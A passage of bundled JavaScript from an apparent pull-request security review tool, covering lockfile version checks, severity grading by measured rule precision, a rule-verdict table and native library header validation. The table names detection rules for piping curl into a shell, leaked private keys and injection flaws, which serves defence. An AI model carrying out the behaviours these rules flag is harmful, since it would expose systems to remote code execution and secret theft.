    const dir = declaring?.dir ?? fact.chain[0]?.dir ?? '';
    const locked = fact.lock
        ? (0,_lockfile_js__WEBPACK_IMPORTED_MODULE_1__/* .lockedVersion */ .X)(fact.lock, name, dir, declaring?.dependencies.get(name))
        : undefined;
    if (typeof locked === 'string') {
        const below = compareVersions(locked, bound) < 0;
        return {
            state: below ? 'below' : 'not-below',
            evidence: `${fact.lock?.path} installs ${name} ${locked}`,
        };
    }
    // A lockfile that cannot tell (an entry whose tarball names another version, an importer it lacks)
    // is no reason to trust the manifest's range instead.
    if (fact.lock && locked === undefined)
        return { state: 'unknown', evidence: `${fact.lock.path} does not say which ${name} it installs` };
    if (!declaring) {
        // Declared nowhere and held by no lockfile that lists every installed package: not installed.
        if (locked === null && fact.complete)
            return { state: 'absent', evidence: `${name} is not installed` };
        return unknown;
    }
    const spec = declaring.dependencies.get(name) ?? '';
    const lowest = lowestVersion(spec);
    const where = `${joinPath(declaring.dir, 'package.json')} asks for ${name} \`${spec}\``;
    if (lowest === null)
        return { state: 'unknown', evidence: where };
    // The range admits a version below the bound: an install may pick it (a stale cache, a pinned registry).
    return { state: compareVersions(lowest, bound) < 0 ? 'below' : 'not-below', evidence: where };
}
// npm runs these with the app itself: what they start serves users, never a maintainer's script.
const APP_SCRIPT = /(?:^|[:_-])(?:pre|post)?(?:start|serve|server|dev|develop|preview|prod|production|worker|daemon|app)(?:$|[:_-])/i;
// Commands that run a JavaScript or TypeScript file named next: node, tsx, ts-node, babel-node, bun ...
const RUNNERS = new Set([
    'node',
    'tsx',
    'ts-node',
    'ts-node-esm',
    'babel-node',
    'bun',
    'esno',
    'vite-node',
    'zx',
]);
// Runner flags that take the next word as their value (`node -r dotenv/config x.js`).
const VALUED_FLAGS = new Set(['-r', '--require', '--loader', '--import', '-e', '--eval', '--env-file']);
const SCRIPT_FILE = /\.[cm]?[jt]s$/;
/**
 * The script of `manifest` that runs `path` (`lint: node Makefile.js lint`), or undefined: none does,
 * or a script that starts the app (`start`, `dev`, `serve`, \u2026) does, or the package ships it as an
 * entry point (`main`, `bin`): then it is the app or a CLI its users run, not a maintainer's script.
 */
function scriptRunning(manifest, path) {
    if (manifest.entries.has(path))
        return undefined;
    let found;
    for (const [name, command] of manifest.scripts) {
        if (!filesRunBy(command).some((file) => joinPath(manifest.dir, file) === path))
            continue;
        if (APP_SCRIPT.test(name))
            return undefined;
        found ??= `${name}: ${command}`;
    }
    return found;
}
/** The files a script command runs with a JavaScript runner (`node x.js && tsx y.ts`). */
function filesRunBy(command) {
    const files = [];
    for (const step of command.split(/&&|\|\||[;|]/)) {
        const words = step.trim().split(/\s+/);
        let at = words.findIndex((w) => RUNNERS.has(w));
        if (at < 0)
            continue;
        if (words[at + 1] === 'run')
            at++;
        for (let i = at + 1; i < words.length; i++) {
            const word = words[i] ?? '';
            if (VALUED_FLAGS.has(word))
                i++;
            else if (!word.startsWith('-')) {
                if (SCRIPT_FILE.test(word))
                    files.push(word.replace(/^["']|["']$/g, ''));
                break;
            }
        }
    }
    return files;
}
/**
 * The lowest version a spec admits (`^4.1.0` \u2192 4.1.0, `>=3 <5 || ^6` \u2192 3.0.0, `4.x` \u2192 4.0.0); null for
 * a spec that is no version range (`latest`, a git URL, `workspace:*`, `file:`, an `npm:` alias).
 */
function lowestVersion(spec) {
    const lows = [];
    for (const set of spec.split('||')) {
        const text = set.trim();
        if (text === '' || text === '*' || /^[xX]$/.test(text)) {
            lows.push('0.0.0');
            continue;
        }
        const hyphen = /^(\S+)\s+-\s+\S+$/.exec(text);
        const comparators = hyphen ? [hyphen[1] ?? ''] : text.split(/\s+/);
        let low = '0.0.0';
        for (const comparator of comparators) {
            const m = /^(>=|>|\^|~>?|=|<=?)?\s*v?(\d+)(?:\.(\d+|[xX*]))?(?:\.(\d+|[xX*]))?(-[\w.]+)?$/.exec(comparator);
            if (!m)
                return null;
            if (m[1]?.startsWith('<'))
                continue;
            const version = [m[2], m[3], m[4]].map((p) => (p && /^\d+$/.test(p) ? p : '0')).join('.');
            if (compareVersions(version, low) > 0)
                low = version;
        }
        lows.push(low);
    }
    if (lows.length === 0)
        return null;
    return lows.reduce((a, b) => (compareVersions(a, b) <= 0 ? a : b));
}
/** Compares two versions numerically (`4.2.0(peer)` and `v3` read as 4.2.0 and 3.0.0); a pre-release sorts first. */
function compareVersions(a, b) {
    const parse = (v) => {
        const m = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?(-[^(+]*)?/.exec(v.trim());
        return { parts: [m?.[1], m?.[2], m?.[3]].map((p) => Number(p ?? 0)), pre: m?.[4] !== undefined };
    };
    const x = parse(a);
    const y = parse(b);
    for (let i = 0; i < 3; i++) {
        const d = (x.parts[i] ?? 0) - (y.parts[i] ?? 0);
        if (d !== 0)
            return d;
    }
    return Number(y.pre) - Number(x.pre);
}
/**
 * `dir/file` normalised (`./x.js` \u2192 x.js); '' is the root folder. A path that climbs out of the
 * repository keeps its `..` (core/repo-path.ts), so it names no file of the repository.
 */
function joinPath(dir, file) {
    const joined = (0,_core_repo_path_js__WEBPACK_IMPORTED_MODULE_0__/* .normalizeRelative */ .iQ)(dir === '' ? file : `${dir}/${file}`);
    return joined === '.' ? '' : joined;
}
/**
 * What a rule with `metadata.dependency` does with a match, given the file's manifests: `drop` when
 * the installed version is at or above the bound or the package is not installed; else keep it with
 * the sentence its body gets (the evidence, or that the version could not be checked).
 */
function dependencyGate(dependency, fact) {
    const { state, evidence } = dependencyBelow(fact, dependency.name, dependency.below);
    if (state === 'not-below' || state === 'absent')
        return { drop: true };
    if (state === 'below')
        return { drop: false, note: `${evidence}, below ${dependency.below}.` };
    return {
        drop: false,
        note: `The installed version of ${dependency.name} could not be checked (${evidence}): this holds only below ${dependency.name} ${dependency.below}.`,
    };
}
/**
 * What a rule with `metadata.needs-package` does with a match: `drop` when the file's manifests show
 * none of `names` installed (declared nowhere, absent from a lockfile that lists every installed
 * package), else keep it, also where nothing read can tell.
 */
function packageGate(names, fact) {
    // `absent` is decided before any version is compared, so the bound asked for does not matter.
    return { drop: names.every((name) => dependencyBelow(fact, name, '0').state === 'absent') };
}


/***/ }),

/***/ 79774:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Li: () => (/* binding */ precisionLevel),
/* harmony export */   ie: () => (/* binding */ measuredGrade),
/* harmony export */   zW: () => (/* binding */ measuredPrecision)
/* harmony export */ });
/* unused harmony exports PRIOR_WEIGHT, FLOOR */
/* harmony import */ var _core_types_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(13281);
/* harmony import */ var _measured_record_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(74612);
/**
 * A rule's grade held to its measured record (issue 45 point 5: high and critical only when the
 * finding can back them). A rule's `confidence` is its author's estimate; the record
 * (measured-record.ts) is how its findings were judged on first sight on code it was not tuned on.
 * Their blend, the mean of a Beta prior centred on the author's estimate worth PRIOR_WEIGHT verdicts
 * updated by the record's true and false verdicts, is the rule's measured precision. A rule below
 * FLOOR reports at most medium, saying why, where its grade rests on the pattern alone: a finding
 * whose value the flow graders traced to input (a request, argv or the environment, an exported
 * entry's or a handler's argument: issue 45 point 1), or whose code is decoded, downloaded or hidden
 * on a minified line (sink-context.ts), keeps the grade they gave it, so a planted `eval(code)` in an
 * exported function still fails a `fail-on: high` gate. Nothing is dropped: a
 * finding only loses a claim its rule's record cannot back (a literal key in a scraper, a digest a
 * vendor's API asks for, a privileged pod).
 *
 * A rule that is not about security (an empty catch, a discarded error, a mutable default) and
 * measures below FLOOR reports **low**, saying why: the default `min-severity` (medium) then lists it
 * in the summary's fold instead of posting it, and a team that wants such notes lowers the floor. A
 * note that is deliberate code far more often than not costs the comments that matter their
 * reader's attention. A security rule keeps medium: a vulnerability passed over costs more.
 *
 * PRIOR_WEIGHT was chosen by leave-one-slice-out cross-validation over the tuning slices (the record
 * of the others predicting each one's first-sight verdicts; 1, 2, 4 and 8 within 0.5 point of F1,
 * 2 best), FLOOR is the default `min-confidence`: a rule measured right less often than wrong.
 */


const PRIOR_WEIGHT = 2;
const FLOOR = 0.5;
/** The rule's measured precision: its author's `confidence` updated by its record. */
function measuredPrecision(confidence, record) {
    if (!record)
        return confidence;
    return (record.true + PRIOR_WEIGHT * confidence) / (record.true + record.false + PRIOR_WEIGHT);
}
/** The level of a measured precision: below FLOOR low, then medium, high from 0.75, very high from 0.9. */
function precisionLevel(precision) {
    if (precision >= 0.9)
        return 'very-high';
    if (precision >= 0.75)
        return 'high';
    return precision >= FLOOR ? 'medium' : 'low';
}
/**
 * The severity a finding of `rule` graded `severity` reports, and the line saying why when it was
 * lowered. `backed`: the grade rests on what the graders found in the code (grade-match.ts). A
 * security rule below FLOOR keeps at most medium; any other rule below FLOOR reports low.
 */
function measuredGrade(rule, severity, backed, records = _measured_record_js__WEBPACK_IMPORTED_MODULE_1__/* .MEASURED */ .l) {
    const security = rule.category === 'security';
    const ceiling = security ? 'medium' : 'low';
    if (backed || _core_types_js__WEBPACK_IMPORTED_MODULE_0__/* .SEVERITY_RANK */ .f3[severity] <= _core_types_js__WEBPACK_IMPORTED_MODULE_0__/* .SEVERITY_RANK */ .f3[ceiling])
        return { severity, why: undefined };
    const record = records[rule.ruleId];
    if (!record || measuredPrecision(rule.confidence, record) >= FLOOR)
        return { severity, why: undefined };
    const right = `Graded ${ceiling} (the rule says ${severity}): on code it was not tuned on, this rule's findings were ` +
        `right ${record.true} time${record.true === 1 ? '' : 's'} in ${record.true + record.false} (bench/real-repos)`;
    return {
        severity: ceiling,
        why: security
            ? `${right}, and its grade rests on the pattern alone. Confirm it before treating it as ${severity}.`
            : `${right}, so it is listed under the default min-severity rather than posted.`,
    };
}


/***/ }),

/***/ 74612:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   l: () => (/* binding */ MEASURED)
/* harmony export */ });
/**
 * Generated by `npx tsx bench/measured-record.ts --write` from bench/real-repos/verdicts.yml: do not
 * edit. Each static rule's findings as judged on first sight on the real-repository bench's tuning
 * slices, outside tests (bench/measured-record.ts says how); src/static/measured-grade.ts reads it.
 */
const MEASURED = {
    'compose-privileged-service': { true: 0, debatable: 1, false: 1 },
    'docker-curl-pipe-shell': { true: 21, debatable: 0, false: 0 },
    'docker-user-root': { true: 1, debatable: 3, false: 2 },
    'gha-permissions-write-all': { true: 3, debatable: 0, false: 0 },
    'gha-script-injection': { true: 4, debatable: 2, false: 4 },
    'gha-secret-in-log': { true: 0, debatable: 6, false: 5 },
    'gha-unpinned-action': { true: 1120, debatable: 28, false: 0 },
    'gha-untrusted-checkout': { true: 4, debatable: 1, false: 3 },
    'go-defer-in-loop': { true: 28, debatable: 3, false: 22 },
    'go-err-unchecked': { true: 3, debatable: 2, false: 0 },
    'go-error-discarded': { true: 0, debatable: 11, false: 37 },
    'go-ioutil': { true: 8, debatable: 0, false: 0 },
    'go-open-redirect': { true: 1, debatable: 0, false: 1 },
    'go-sql-sprintf': { true: 0, debatable: 2, false: 35 },
    'go-ssrf-request-url': { true: 0, debatable: 1, false: 0 },
    'go-tls-insecure': { true: 1, debatable: 9, false: 11 },
    'go-weak-password-hash': { true: 0, debatable: 0, false: 3 },
    'go-zip-slip': { true: 0, debatable: 0, false: 1 },
    'java-boxed-constructor': { true: 2, debatable: 0, false: 0 },
    'java-empty-catch': { true: 3, debatable: 12, false: 51 },
    'java-open-redirect': { true: 0, debatable: 0, false: 3 },
    'java-sql-concat': { true: 0, debatable: 0, false: 3 },
    'java-string-reference-equals': { true: 1, debatable: 0, false: 0 },
    'java-unsafe-deserialization': { true: 0, debatable: 22, false: 5 },
    'java-weak-password-hash': { true: 0, debatable: 1, false: 3 },
    'java-xxe-factory': { true: 0, debatable: 1, false: 0 },
    'java-zip-slip': { true: 0, debatable: 0, false: 1 },
    'js-angular-bypass-trust': { true: 7, debatable: 2, false: 1 },
    'js-cors-credentials-any-origin': { true: 0, debatable: 1, false: 1 },
    'js-debugger': { true: 0, debatable: 0, false: 1 },
    'js-directory-listing': { true: 3, debatable: 1, false: 0 },
    'js-empty-catch': { true: 1, debatable: 6, false: 6 },
    'js-empty-catch-io': { true: 1, debatable: 11, false: 37 },
    'js-eval': { true: 3, debatable: 2, false: 18 },
    'js-exec-interpolated': { true: 6, debatable: 5, false: 80 },
    'js-express-jwt-no-algorithms': { true: 1, debatable: 0, false: 0 },
    'js-foreach-async': { true: 9, debatable: 2, false: 6 },
    'js-hardcoded-password': { true: 0, debatable: 0, false: 9 },
    'js-innerhtml-dynamic': { true: 0, debatable: 4, false: 11 },
    'js-jwt-unsafe-verify': { true: 2, debatable: 8, false: 2 },
    'js-literal-signing-secret': { true: 2, debatable: 0, false: 0 },
    'js-new-buffer': { true: 2, debatable: 1, false: 1 },
    'js-new-buffer-size': { true: 0, debatable: 0, false: 1 },
    'js-new-function': { true: 0, debatable: 11, false: 16 },
    'js-nosql-injection': { true: 4, debatable: 0, false: 8 },
    'js-open-redirect': { true: 1, debatable: 0, false: 3 },
    'js-orm-read-modify-write': { true: 1, debatable: 3, false: 10 },
    'js-path-traversal': { true: 1, debatable: 0, false: 2 },
    'js-private-key': { true: 1, debatable: 1, false: 1 },
    'js-regex-nested-quantifier': { true: 2, debatable: 2, false: 4 },
    'js-sql-interpolated': { true: 49, debatable: 13, false: 323 },
    'js-ssrf-request-url': { true: 4, debatable: 0, false: 0 },
    'js-substr': { true: 88, debatable: 14, false: 21 },
    'js-substr-length': { true: 152, debatable: 2, false: 12 },
    'js-template-autoescape-off': { true: 1, debatable: 0, false: 0 },
    'js-template-noescape': { true: 0, debatable: 0, false: 20 },
    'js-tls-verify-disabled': { true: 4, debatable: 25, false: 8 },
    'js-togmtstring': { true: 4, debatable: 0, false: 0 },
    'js-vm-run-code': { true: 0, debatable: 4, false: 1 },
    'js-xml-parse-noent': { true: 2, debatable: 0, false: 0 },
    'js-yaml-unsafe-load': { true: 0, debatable: 2, false: 10 },
    'js-zip-slip': { true: 1, debatable: 0, false: 0 },
    'k8s-privileged-container': { true: 0, debatable: 17, false: 49 },
    'py-bare-except-pass': { true: 0, debatable: 22, false: 122 },
    'py-cors-credentials-any-origin': { true: 0, debatable: 0, false: 11 },
    'py-eval-exec': { true: 0, debatable: 1, false: 14 },
    'py-get-event-loop': { true: 5, debatable: 0, false: 0 },
    'py-imp': { true: 1, debatable: 0, false: 3 },
    'py-jwt-no-verify': { true: 0, debatable: 2, false: 1 },
    'py-literal-signing-secret': { true: 1, debatable: 1, false: 1 },
    'py-mutable-default': { true: 2, debatable: 4, false: 13 },
    'py-open-redirect': { true: 1, debatable: 0, false: 4 },
    'py-os-system': { true: 0, debatable: 5, false: 3 },
    'py-path-traversal': { true: 0, debatable: 0, false: 3 },
    'py-pickle-loads': { true: 0, debatable: 1, false: 8 },
    'py-requests-verify-false': { true: 16, debatable: 4, false: 0 },
    'py-sql-format': { true: 0, debatable: 3, false: 27 },
    'py-subprocess-shell': { true: 1, debatable: 3, false: 7 },
    'py-template-autoescape-off': { true: 0, debatable: 0, false: 2 },
    'py-utcnow': { true: 220, debatable: 1, false: 0 },
    'py-weak-password-hash': { true: 0, debatable: 0, false: 7 },
    'py-yaml-load': { true: 0, debatable: 3, false: 1 },
    'secret-google-api-key': { true: 0, debatable: 5, false: 6 },
    'secret-private-key': { true: 0, debatable: 0, false: 1 },
};


/***/ }),

/***/ 77058:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   H: () => (/* binding */ napi),
/* harmony export */   vW: () => (/* binding */ loadNapi)
/* harmony export */ });
/* unused harmony export loadNapiFrom */
/* harmony import */ var node_module__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(98995);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_url__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(73136);
/* harmony import */ var _native_header_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(7501);
/**
 * The native ast-grep binding, loaded on first use rather than at import: a review of a docs-only
 * change never needs it, and a binding that cannot load must turn the static rules off with a
 * reason instead of failing the import of the whole review (issue 48; issue 46, point 1).
 *
 * Where it comes from, first that loads:
 * - `@ast-grep/napi` as npm installed it, which picks the package of this platform
 *   (`@ast-grep/napi-darwin-arm64`, ...): the CLI installed from npm, and the sources;
 * - `<dist>/native/<platform>-<arch>/ast-grep-napi.node`, copied by scripts/bundle.mjs for every
 *   GitHub-hosted runner: the action, which runs from its committed `dist/` with no node_modules.
 * `createRequire(import.meta.url)` keeps both lookups at runtime: the bundler does not follow it.
 */




const message = (error) => (error instanceof Error ? error.message : String(error));
/** The bundled binding's path for a platform, e.g. `<dir>/native/linux-arm64/ast-grep-napi.node`. */
function bundledNapiPath(dir, platform = process.platform, arch = process.arch) {
    return node_path__WEBPACK_IMPORTED_MODULE_1__.join(dir, 'native', `${platform}-${arch}`, 'ast-grep-napi.node');
}
/**
 * Loads the binding from the installed package, else from `dir`'s bundled copy once its header says
 * it is for this machine. Never throws: a binding that cannot load comes back with the reasons.
 */
function loadNapiFrom(dir, packageName = '@ast-grep/napi') {
    const require = (0,node_module__WEBPACK_IMPORTED_MODULE_0__.createRequire)(import.meta.url);
    let installed;
    try {
        return { ok: true, napi: require(packageName) };
    }
    catch (error) {
        installed = message(error).split('\n')[0] ?? '';
    }
    const bundled = bundledNapiPath(dir);
    const header = (0,_native_header_js__WEBPACK_IMPORTED_MODULE_3__/* .checkNativeLibrary */ .n)(bundled);
    if (!header.ok)
        return { ok: false, reason: `the ast-grep binding cannot load: ${installed}; ${header.reason}` };
    try {
        return { ok: true, napi: require(bundled) };
    }
    catch (error) {
        return { ok: false, reason: `the ast-grep binding ${bundled} cannot load: ${message(error)}` };
    }
}
let loaded;
/** The process's binding, loaded once (`dist/` inside the bundle, src/static/ in the sources). */
function loadNapi() {
    loaded ??= loadNapiFrom(node_path__WEBPACK_IMPORTED_MODULE_1__.dirname((0,node_url__WEBPACK_IMPORTED_MODULE_2__.fileURLToPath)(import.meta.url)));
    return loaded;
}
/** The binding, for code that runs only after `processLanguages` said the language is available. */
function napi() {
    const result = loadNapi();
    if (!result.ok)
        throw new Error(result.reason);
    return result.napi;
}


/***/ }),

/***/ 7501:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   n: () => (/* binding */ checkNativeLibrary)
/* harmony export */ });
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/**
 * A look at a native library's header before Node or ast-grep loads it. `registerDynamicLanguage`
 * aborts the whole process with a Rust panic ("TODO: OpenLib(DlOpen\u2026)", exit 134) when a grammar
 * does not load, so a file for another system or architecture, or a truncated one, must be turned
 * away here, with a reason, and cost only its own language (issue 46, point 1).
 *
 * Formats: ELF (https://refspecs.linuxfoundation.org/elf/gabi4+/ch4.eheader.html), Mach-O
 * (<mach-o/loader.h>, <mach-o/fat.h>) and PE (https://learn.microsoft.com/windows/win32/debug/pe-format).
 */

/** How far into the file the checks read: the ELF and PE headers and the Mach-O load commands. */
const HEAD_BYTES = 64 * 1024;
const ELF_MACHINES = { x64: 62, arm64: 183 };
const MACHO_CPUS = { x64: 0x01000007, arm64: 0x0100000c };
const PE_MACHINES = { x64: 0x8664, arm64: 0xaa64 };
/** Whether `file` is a native library this process (`platform`, `arch`) can load, judged by its header. */
function checkNativeLibrary(file, platform = process.platform, arch = process.arch) {
    let head;
    let size;
    try {
        const fd = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.openSync)(file, 'r');
        try {
            size = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.fstatSync)(fd).size;
            head = Buffer.alloc(Math.min(size, HEAD_BYTES));
            (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readSync)(fd, head, 0, head.length, 0);
        }
        finally {
            (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.closeSync)(fd);
        }
    }
    catch (error) {
        return {
            ok: false,
            reason: `cannot read ${file}: ${error instanceof Error ? error.message : String(error)}`,
        };
    }
    const problem = headerProblem(head, size, platform, arch);
    return problem === null ? { ok: true } : { ok: false, reason: `${file} ${problem}` };
}
function headerProblem(head, size, platform, arch) {
    const wanted = `${platform}-${arch}`;
    if (head.length >= 4 && head.readUInt32BE(0) === 0x7f454c46) {
        if (platform === 'darwin' || platform === 'win32')
            return `is a Linux (ELF) library, not one for ${wanted}`;
        return elfProblem(head, size, arch);
    }
    if (head.length >= 4 && (head.readUInt32LE(0) === 0xfeedfacf || head.readUInt32BE(0) === 0xcafebabe)) {
        if (platform !== 'darwin')
            return `is a macOS (Mach-O) library, not one for ${wanted}`;
        return head.readUInt32BE(0) === 0xcafebabe ? null : machoProblem(head, size, arch);
    }
    if (head.length >= 2 && head.toString('latin1', 0, 2) === 'MZ') {
        if (platform !== 'win32')
            return `is a Windows (PE) library, not one for ${wanted}`;
        return peProblem(head, size, arch);
    }
    return head.length === 0 ? 'is empty' : 'is not a native library (no ELF, Mach-O or PE header)';
}
function elfProblem(head, size, arch) {
    // Only 64-bit little-endian libraries are published for the platforms prlens supports.
    if (head.length < 64 || head[4] !== 2 || head[5] !== 1)
        return 'is not a 64-bit little-endian ELF library';
    const machine = head.readUInt16LE(18);
    if (machine !== ELF_MACHINES[arch])
        return `is built for ELF machine ${machine}, not ${arch}`;
    // The section header table is written last: a file cut short loses it first.
    const end = Number(head.readBigUInt64LE(40)) + head.readUInt16LE(58) * head.readUInt16LE(60);
    return end > size ? `is truncated (${size} bytes, its headers end at ${end})` : null;
}
function machoProblem(head, size, arch) {
    if (head.length < 32)
        return 'is truncated (no Mach-O header)';
    const cpu = head.readUInt32LE(4);
    if (cpu !== MACHO_CPUS[arch])
        return `is built for Mach-O CPU type ${cpu}, not ${arch}`;
    // LC_SEGMENT_64 commands say where each segment's bytes are: all must be inside the file.
    let at = 32;
    for (let n = head.readUInt32LE(16); n > 0 && at + 8 <= head.length; n--) {
        const [command, length] = [head.readUInt32LE(at), head.readUInt32LE(at + 4)];
        if (command === 0x19 && at + 56 <= head.length) {
            const end = Number(head.readBigUInt64LE(at + 40)) + Number(head.readBigUInt64LE(at + 48));
            if (end > size)
                return `is truncated (${size} bytes, a segment ends at ${end})`;
        }
        if (length === 0)
            break;
        at += length;
    }
    return null;
}
function peProblem(head, size, arch) {
    const pe = head.length >= 64 ? head.readUInt32LE(60) : -1;
    if (pe < 0 || pe + 24 > head.length || head.readUInt32BE(pe) !== 0x50450000)
        return 'is not a PE library';
    const machine = head.readUInt16LE(pe + 4);
    if (machine !== PE_MACHINES[arch])
        return `is built for PE machine 0x${machine.toString(16)}, not ${arch}`;
    const sections = head.readUInt16LE(pe + 6);
    let at = pe + 24 + head.readUInt16LE(pe + 20);
    for (let i = 0; i < sections && at + 40 <= head.length; i++, at += 40) {
        const end = head.readUInt32LE(at + 20) + head.readUInt32LE(at + 16);
        if (end > size)
            return `is truncated (${size} bytes, a section ends at ${end})`;
    }
    return null;
}


/***/ }),

/***/ 71918:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  bF: () => (/* binding */ ruleApplies),
  k_: () => (/* binding */ runCheck),
  Hc: () => (/* binding */ runStaticRules),
  yP: () => (/* binding */ staticChecks),
  dj: () => (/* binding */ staticCovers),
  dW: () => (/* reexport */ static_finding/* staticRuleIdOf */.dW)
});

// EXTERNAL MODULE: ./.tmp/bundle-src/static/checks/file-checks.js + 13 modules
var file_checks = __webpack_require__(2202);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/languages.js
var languages = __webpack_require__(21913);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/compiled-rules.js
var compiled_rules = __webpack_require__(56657);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/static-finding.js
var static_finding = __webpack_require__(81222);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/static-limits.js
var static_limits = __webpack_require__(69375);
// EXTERNAL MODULE: ./.tmp/bundle-src/core/compare-text.js
var compare_text = __webpack_require__(44418);
// EXTERNAL MODULE: ./.tmp/bundle-src/core/code-paths.js
var code_paths = __webpack_require__(12535);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/entry-points.js
var entry_points = __webpack_require__(34947);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/go-test-support.js
/**
 * Go test support code outside `_test.go` files (issue 45 point 4, "test setup"): suite helpers,
 * fixture builders and end-to-end suites live in ordinary `.go` files of packages that import
 * `testing`, `net/http/httptest`, testify or Ginkgo/Gomega (authelia's `internal/suites`, fresh10:
 * `action_login.go` takes a `*testing.T` and `require`s every step, and `suite_standalone.go`, which
 * imports none of them itself, registers the suites those files drive). The Go toolchain links such a
 * file only into what imports it, and a program that links `testing` registers no test flags of its
 * own since Go 1.13, so a package doing it is one whose only users are tests (the standard library's
 * own `net/http/httptest`, `testing/fstest`). Read from the file's own imports, which the PR writes:
 * a file that is a program (`package main`, `func main`) or listens for connections stays source,
 * and so does one that serves requests (run-static-rules.ts checks that for every test-support file).
 */

// Import paths only tests use: the standard library's testing packages and the common test frameworks.
const TEST_IMPORT = /^(?:testing(?:\/[\w/]+)?|net\/http\/httptest|github\.com\/stretchr\/testify(?:\/[\w/.-]+)?|github\.com\/onsi\/(?:ginkgo|gomega)(?:\/[\w/.-]+)?)$/;
// A program's entry, a listener or a handler: code that runs as a service, whatever it imports. A
// handler takes an `http.ResponseWriter` (a test client's `*http.Request` in a redirect hook does
// not make a server) or a web framework's context.
const PROGRAM = /^\s*package\s+main\b|^\s*func\s+main\s*\(|\bListenAndServe(?:TLS)?\s*\(|\bnet\.Listen\w*\s*\(|\bhttp\.ResponseWriter\b|\*(?:gin\.Context|fiber\.Ctx)\b|\becho\.Context\b/m;
const importsTestPackage = (content) => goImports(content).some((p) => TEST_IMPORT.test(p));
const packageName = (content) => /^\s*package\s+(\w+)/m.exec(content)?.[1];
/** The import paths of a Go file, comments stripped (a path in a comment imports nothing). */
function goImports(content) {
    const code = content.replace(/\/\*[\s\S]*?\*\/|\/\/[^\n]*/g, '');
    const paths = [];
    for (const decl of code.matchAll(/^\s*import\s*(\([^)]*\)|[^\n]*)/gm))
        for (const path of decl[1].matchAll(/["`]([^"`]+)["`]/g))
            paths.push(path[1]);
    return paths;
}
/** Whether a non-`_test.go` Go file is test support: it imports a testing package and is no program. */
function isGoTestSupport(path, content) {
    if (!/\.go$/.test(path) || /_test\.go$/.test(path))
        return false;
    return importsTestPackage(content) && !PROGRAM.test(content);
}
/**
 * Whether a Go file sits in a test-support package: another non-test file of its package imports a
 * testing package, and no non-test file of the package is a program, listens or handles requests (a
 * server package that also holds a test helper stays source). The file itself must be neither, nor
 * serve requests. The package is read at the head (go-package.ts); unread, it is no test support.
 * Only a sibling the change leaves alone (`touched` holds the paths with changed lines) can mark the
 * package: a PR adding `import _ "testing"` to a file beside its own library code would otherwise turn
 * that whole package into tests, which no name or flow of the code would show.
 */
async function inTestSupportPackage(file, language, reader, touched) {
    if (language !== 'go' || !reader || file.role === 'test' || /_test\.go$/.test(file.path))
        return false;
    if (PROGRAM.test(file.content) || (0,entry_points/* servesRequests */.Hu)(file.content, 'go'))
        return false;
    const files = await reader(file.path);
    if (!files)
        return false;
    const name = packageName(file.content);
    const siblings = files.filter((f) => f.path !== file.path && !/_test\.go$/.test(f.path) && packageName(f.text) === name);
    return (!siblings.some((f) => PROGRAM.test(f.text)) &&
        siblings.some((f) => !touched.has(f.path) && importsTestPackage(f.text)));
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/cli-program.js
var cli_program = __webpack_require__(67036);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/manifest-need.js


/**
 * What of its manifests could change a file's findings, null when nothing: a JavaScript or TypeScript
 * source file (not a test) with a finding of a rule gated on a dependency's version (`versions`), or
 * graded by flow or skipping maintainer's scripts (the scripts).
 */
function manifestNeed(file, language, rules, findings) {
    if (file.role === 'test' || !(0,languages/* targetsOf */.QR)('javascript').includes(language))
        return null;
    const byId = new Map(rules.map((r) => [r.id, r]));
    const of = findings.map((f) => byId.get(f.ruleId)).filter((r) => r !== undefined);
    const versions = of.some((r) => r.dependency !== undefined || r.needsPackage !== undefined);
    const scripts = of.some((r) => r.flow !== undefined || r.inScripts === 'skip');
    return versions || scripts ? { versions } : null;
}
/**
 * The facts as the rules may use them. A script of the manifest runs the file only when the file
 * serves no request (reads none, declares no handler): a `package.json` line never makes a server a
 * maintainer's script.
 */
function accepted(fact, file, language) {
    if (fact.runBy === undefined || !(0,languages/* isCodeLanguage */.aN)(language) || !(0,entry_points/* servesRequests */.Hu)(file.content, language))
        return fact;
    return { ...fact, runBy: undefined };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/napi.js
var napi = __webpack_require__(77058);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/checked-elsewhere.js


/** The rule it serves, and its `checks-target` regex (tests/static/checked-elsewhere.test.ts keeps them equal). */
const RULE = 'py-open-redirect';
const CHECKS_TARGET = new RegExp(String.raw `(url_has_allowed_host_and_scheme|is_safe_url|is_safe_redirect_url|\.netloc\b|\.startswith\(\s*[rbf]?["']/)`);
/**
 * Where a check's result decides, as the rule's `in-decision`: an `if`, `elif` or `while` condition, a
 * conditional expression, or a name such a condition tests. A call whose result nobody reads checks
